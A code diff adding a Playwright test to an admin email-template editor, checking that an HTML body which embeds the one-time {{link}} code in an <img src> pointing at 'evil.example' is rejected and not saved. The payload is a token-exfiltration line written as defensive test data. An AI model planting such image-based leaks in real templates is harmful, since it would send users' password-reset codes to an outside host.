@@ -144,3 +144,26 @@ test('the brand logo shows inside the sandboxed HTML previews: the editor’s an
     .poll(() => logo.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth))
     .toBeGreaterThan(0)
 })
+
+test('the image trick with a one-time code is refused beside the HTML body, and nothing is saved', async ({
+  page,
+}) => {
+  await signIn(page, 'admin@panorama.test')
+  await expect(page).toHaveURL(/\/admin$/)
+  await page.goto('/admin/email-management/admin_invite')
+  await expect(page.getByRole('button', { name: /Insert \{\{link\}\}/ })).toBeVisible()
+  const html = page.getByLabel('HTML body (optional)')
+  await html.fill(
+    '<p>Welcome</p><p><a href="{{link}}">Set your password</a></p><img src="https://evil.example/p.gif?x={{link}}">',
+  )
+  await page.getByRole('button', { name: 'Save', exact: true }).click()
+  const message = page.getByText(
+    '{{link}} carries the reader’s one-time code, so it may stand only as a link’s whole address (<a href="{{link}}">) or as text. Take it out of <img src>.',
+  )
+  await expect(message).toBeVisible()
+  // Beside the field: the HTML body is described by its error.
+  await expect(html).toHaveAccessibleDescription(/Take it out of <img src>\./)
+  await expectAccessible(page)
+  await page.reload()
+  await expect(page.getByLabel('HTML body (optional)')).toHaveValue('')
+})
